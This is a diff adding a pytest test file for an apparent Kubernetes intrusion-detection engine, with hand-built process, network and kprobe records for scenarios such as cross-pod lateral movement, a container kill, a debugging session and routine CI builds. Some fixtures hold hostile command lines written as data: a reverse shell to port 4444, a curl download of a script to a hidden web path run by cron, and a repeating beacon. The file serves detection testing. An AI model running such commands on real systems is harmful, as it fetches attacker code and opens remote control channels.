@@ -1,0 +1,201 @@
+"""The engine on small hand-made frames: an attack across two pods, a kill, a quiet debugging session."""
+
+from __future__ import annotations
+
+import polars as pl
+import pytest
+
+from kernelsec_nb.findings import schema
+from kernelsec_nb.findings.detections import DETECTION_SCHEMA, empty_detections
+from kernelsec_nb.findings.engine import find_in
+
+S = 1_000_000_000
+MS = 1_000_000
+P = {"exec_id": pl.String, "parent_exec_id": pl.String, "node": pl.String, "namespace": pl.String,
+     "pod": pl.String, "workload": pl.String, "binary": pl.String, "args": pl.String, "start_ns": pl.Int64,
+     "exit_ns": pl.Int64, "in_init_tree": pl.Boolean, "seen_as": pl.String, "signal": pl.String}
+F = {"event_id": pl.String, "time_ns": pl.Int64, "exec_id": pl.String, "src_namespace": pl.String,
+     "src_pod": pl.String, "src_workload": pl.String, "src_ip": pl.String, "src_port": pl.Int64,
+     "dst_namespace": pl.String, "dst_pod": pl.String, "dst_workload": pl.String, "dst_ip": pl.String,
+     "dst_port": pl.Int64, "verdict": pl.String, "is_reply": pl.Boolean, "http_method": pl.String,
+     "http_url": pl.String, "http_path": pl.String}
+K = {"event_id": pl.String, "kind": pl.String, "time_ns": pl.Int64, "node": pl.String, "namespace": pl.String,
+     "pod": pl.String, "workload": pl.String, "exec_id": pl.String, "function_name": pl.String,
+     "file_path": pl.String, "daddr": pl.String, "dport": pl.Int64, "hook_args": pl.String}
+
+
+def proc(exec_id, parent, pod, binary, args="", t=0, *, ns="a", node="n1", init=True, seen="exec", exit_ns=None,
+         signal=None, workload=None):
+    return {"exec_id": exec_id, "parent_exec_id": parent, "node": node, "namespace": ns if pod else None,
+            "pod": pod, "workload": workload or (pod.rsplit("-", 1)[0] if pod else None), "binary": binary,
+            "args": args, "start_ns": t, "exit_ns": exit_ns, "in_init_tree": init if pod else None,
+            "seen_as": seen, "signal": signal}
+
+
+def flow(eid, t, exec_id, src, dst, port, *, dst_ip="10.0.0.9", method=None, url=None, verdict="FORWARDED"):
+    sns, spod = src
+    dns, dpod = dst if dst else (None, None)
+    return {"event_id": eid, "time_ns": t, "exec_id": exec_id, "src_namespace": sns, "src_pod": spod,
+            "src_workload": spod.rsplit("-", 1)[0] if spod else None, "src_ip": "10.0.0.1", "src_port": 40000,
+            "dst_namespace": dns, "dst_pod": dpod, "dst_workload": dpod.rsplit("-", 1)[0] if dpod else None,
+            "dst_ip": dst_ip, "dst_port": port, "verdict": verdict, "is_reply": False, "http_method": method,
+            "http_url": url, "http_path": url}
+
+
+def frames(procs, flows=(), kprobes=(), hits=None):
+    return {"procs": pl.DataFrame(list(procs), schema=P), "flows": pl.DataFrame(list(flows), schema=F),
+            "kprobes": pl.DataFrame(list(kprobes), schema=K), "hits": hits if hits is not None else empty_detections()}
+
+
+def _hits(rows):
+    base = {c: None for c in DETECTION_SCHEMA}
+    return pl.DataFrame([{**base, **r} for r in rows], schema=DETECTION_SCHEMA)
+
+
+def _lateral():
+    """A payload in pod app-1 uses a client to register a job with pod sched-0 (another namespace);
+    sched-0's main process writes the job file, runs it later, and the job connects out."""
+    procs = [
+        proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
+        proc("schedmain", None, "sched-0", "/srv/sched", t=-100 * S, seen="event", ns="b", node="n2"),
+        proc("payload", "appmain", "app-1", "/usr/bin/python3", "-c exec(...)", 100 * S),
+        proc("client", "payload", "app-1", "/usr/bin/jobctl", "put job --file /tmp/j.sh", 100 * S + 40 * MS),
+        proc("job", "schedmain", "sched-0", "/bin/sh", "/jobs/j.sh", 220 * S, ns="b", node="n2"),
+        proc("rsh", "job", "sched-0", "/bin/bash", "-i", 220 * S + 5 * MS, ns="b", node="n2"),
+        proc("look", "rsh", "sched-0", "/usr/bin/id", "", 230 * S, ns="b", node="n2"),
+    ]
+    flows = [
+        flow("f1", 100 * S + 50 * MS, "client", ("a", "app-1"), ("b", "sched-0"), 8080, method="PUT",
+             url="http://sched.b/api/jobs/j"),
+        flow("f2", 220 * S + 10 * MS, "rsh", ("b", "sched-0"), None, 4444, dst_ip="203.0.113.50"),
+    ]
+    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 60 * MS, "node": "n2", "namespace": "b",
+           "pod": "sched-0", "workload": "sched", "exec_id": "schedmain", "function_name": "security_file_permission",
+           "file_path": "/jobs/j.sh", "daddr": None, "dport": None, "hook_args": '[{"file_arg":{}},{"int_arg":2}]'}]
+    return frames(procs, flows, kp)
+
+
+def test_lateral_movement_is_one_incident_across_both_pods():
+    f = find_in(**_lateral())
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert (i.pod, i.namespace, i.node) == ("app-1", "a", "n1")
+    assert i.entry is not None and i.entry.exec_id == "payload"
+    assert i.key_command is not None and i.key_command.exec_id == "client"  # the hand-off, not the payload
+    assert [(r.pod, r.namespace) for r in i.reached] == [("sched-0", "b")]
+    assert i.reached[0].how == ["service_write", "exec_file", "connect"] and set(i.reached[0].exec_ids) == {"job", "rsh", "look"}
+    assert [(e.ip, e.port, e.role) for e in i.endpoints] == [("203.0.113.50", 4444, "c2")]
+    assert i.chain == ["payload", "client"]
+    assert i.techniques == {}  # no detection, no exec from outside, no download: nothing to name
+    assert set(i.to_dict()["evidence"]) >= {"f1", "f2", "k1"}
+
+
+def test_kill_is_the_key_command_and_the_exec_is_the_trigger():
+    procs = [
+        proc("main", None, "web-1", "/srv/web", t=-100 * S, seen="event", exit_ns=50 * S + 2 * MS, signal="SIGKILL"),
+        proc("shell", "shim", "web-1", "/bin/sh", "", 10 * S, init=False),
+        proc("ls", "shell", "web-1", "/bin/ls", "/", 20 * S, init=False, exit_ns=20 * S + MS),
+        proc("kill", "shell", "web-1", "/bin/kill", "-9 1", 50 * S, init=False, exit_ns=50 * S + 3 * MS),
+        proc("shim", None, None, "/shim", "", 9 * S),
+    ]
+    hits = _hits([{"rule_id": "falco:Terminal shell", "title": "Terminal shell", "level": "low",
+                   "techniques": ["T1059"], "exec_id": "shell", "event_id": "h1"}])
+    f = find_in(**frames(procs, hits=hits))
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert i.key_command is not None and (i.key_command.binary, i.key_command.exec_id) == ("/bin/kill", "kill")
+    assert i.entry is not None and i.entry.exec_id == "shell" and "exec'd into the container" in (i.entry.trigger or "")
+    assert i.chain == ["shell", "kill"]
+    assert i.techniques == {"T1059": ["falco:Terminal shell"], "T1609": ["engine:exec_in"]}
+    assert i.confidence in ("high", "medium")
+    assert i.why[0].startswith("+ ")
+
+
+def test_a_debugging_session_calling_the_usual_api_is_a_lead_not_an_incident():
+    procs = [proc("main", None, "web-1", "/srv/web", t=-100 * S, seen="event")]
+    flows = [flow(f"d{h}", h * 3600 * S, "main", ("a", "web-1"), None, 443, dst_ip="93.184.216.34")
+             for h in range(6)]
+    procs += [proc("shell", "shim", "web-1", "/bin/sh", "", 7000 * S, init=False),
+              proc("env", "shell", "web-1", "/usr/bin/env", "", 7010 * S, init=False),
+              proc("curl", "shell", "web-1", "/usr/bin/curl", "https://api.example/v1", 7020 * S, init=False)]
+    flows.append(flow("x", 7020 * S + 5 * MS, "curl", ("a", "web-1"), None, 443, dst_ip="93.184.216.34"))
+    hits = _hits([{"rule_id": "falco:Terminal shell", "title": "Terminal shell", "level": "low",
+                   "techniques": ["T1059"], "exec_id": "shell", "event_id": "h1"}])
+    f = find_in(**frames(procs, flows, hits=hits))
+    assert f.incidents == []
+    assert [(lead.pod, lead.exec_ids[0]) for lead in f.leads] == [("web-1", "shell")]
+    assert "below the threshold" in f.leads[0].why_not
+
+
+def test_an_empty_capture_says_why_and_validates():
+    f = find_in(**frames([]))
+    assert f.incidents == [] and f.leads == []
+    assert any("no process events" in n for n in f.notes)
+    jsonschema = pytest.importorskip("jsonschema")
+    jsonschema.validate(f.to_dict(), schema())
+    jsonschema.validate(find_in(**_lateral()).to_dict(), schema())
+
+
+def test_a_job_an_intruder_wrote_is_not_routine_and_its_beacon_is_c2():
+    """A dropped script runs every minute from the pod's own scheduler: regular, but the intruder's."""
+    procs = [proc("main", None, "wiki-1", "/srv/php", t=-100 * S, seen="event"),
+             proc("cron", None, "wiki-1", "/sbin/cron", t=-100 * S, seen="event"),
+             proc("inj", "main", "wiki-1", "/bin/sh", "-c curl -o /www/.t.sh http://203.0.113.5/t.sh", 10 * S),
+             proc("dl", "inj", "wiki-1", "/usr/bin/curl", "-o /www/.t.sh http://203.0.113.5/t.sh", 10 * S + MS,
+                  exit_ns=11 * S)]
+    flows = [flow("d", 10 * S + 2 * MS, "dl", ("a", "wiki-1"), None, 80, dst_ip="203.0.113.5")]
+    for i in range(6):
+        t = (60 + 60 * i) * S
+        procs += [proc(f"run{i}", "cron", "wiki-1", "/bin/sh", "/www/.t.sh", t),
+                  proc(f"b{i}", f"run{i}", "wiki-1", "/usr/bin/curl", "-s http://203.0.113.6:8080/b", t + MS,
+                       exit_ns=t + 2 * S)]
+        flows.append(flow(f"b{i}", t + 2 * MS, f"b{i}", ("a", "wiki-1"), None, 8080, dst_ip="203.0.113.6"))
+    kp = [{"event_id": "w", "kind": "process_kprobe", "time_ns": 10 * S + 3 * MS, "node": "n1", "namespace": "a",
+           "pod": "wiki-1", "workload": "wiki", "exec_id": "dl", "function_name": "security_file_permission",
+           "file_path": "/www/.t.sh", "daddr": None, "dport": None, "hook_args": '[{"int_arg":2}]'}]
+    f = find_in(**frames(procs, flows, kp))
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert i.entry is not None and i.entry.exec_id == "inj"
+    assert i.key_command is not None and i.key_command.exec_id == "dl"  # wrote what ran later
+    roles = {(e.ip, e.port): e.role for e in i.endpoints}
+    assert roles == {("203.0.113.5", 80): "download", ("203.0.113.6", 8080): "c2"}
+    assert i.techniques == {"T1105": ["engine:download"]}
+
+
+def test_one_kind_of_act_without_a_detection_is_a_lead_and_alike_leads_merge():
+    """A notebook terminal's git pull: started by the service, connected out, nothing detected."""
+    procs = [proc("main", None, "nb-0", "/srv/notebook", t=-100 * S, seen="event")]
+    flows = []
+    for i, at in enumerate((100, 1300, 1700)):  # by hand: no schedule
+        t = at * S
+        procs += [proc(f"git{i}", "main", "nb-0", "/usr/bin/git", "pull", t, exit_ns=t + 2 * S),
+                  proc(f"rem{i}", f"git{i}", "nb-0", "/usr/lib/git-core/git-remote-https", "origin", t + MS,
+                       exit_ns=t + S)]
+        flows += [flow(f"g{i}", t + 2 * MS, f"rem{i}", ("a", "nb-0"), None, 443, dst_ip="140.82.112.3"),
+                  flow(f"h{i}", t + 3 * MS, f"git{i}", ("a", "nb-0"), None, 443, dst_ip="140.82.112.4")]
+    f = find_in(**frames(procs, flows))
+    assert f.incidents == []
+    assert len(f.leads) == 1
+    lead = f.leads[0]
+    assert lead.why_not == "one kind of act (connect_out) and no detection (and 2 more like it in nb)"
+    assert sorted(lead.exec_ids) == ["git0", "git1", "git2", "rem0", "rem1", "rem2"]
+
+
+def test_a_rule_that_fires_on_every_build_does_not_make_a_build_an_incident():
+    """A CI runner's builds: each a shell from the service that clones over the internet; a rule
+    fires on every one of them all through the capture, so it is the workload's routine."""
+    procs = [proc("runner", None, "ci-0", "/usr/bin/runner", t=-100 * S, seen="event")]
+    flows, rows = [], []
+    for i, at in enumerate((100, 250, 1300, 1500, 2500, 3700, 4000, 5200, 6950)):  # irregular: no schedule
+        t = at * S
+        procs += [proc(f"sh{i}", "runner", "ci-0", "/bin/bash", f"-c /builds/{i}/step", t, exit_ns=t + 60 * S),
+                  proc(f"git{i}", f"sh{i}", "ci-0", "/usr/bin/git", "clone https://git.example/x", t + S,
+                       exit_ns=t + 5 * S)]
+        flows.append(flow(f"g{i}", t + 2 * S, f"git{i}", ("a", "ci-0"), None, 443, dst_ip="35.231.145.151"))
+        rows.append({"rule_id": "sigma:shell-from-service", "title": "Shell started by a service process",
+                     "level": "high", "techniques": ["T1059"], "exec_id": f"sh{i}", "event_id": f"h{i}",
+                     "time_ns": t, "workload": "ci"})
+    f = find_in(**frames(procs, flows, hits=_hits(rows)))
+    assert f.incidents == []
+    assert len(f.leads) == 1 and "and 8 more like it in ci" in f.leads[0].why_not
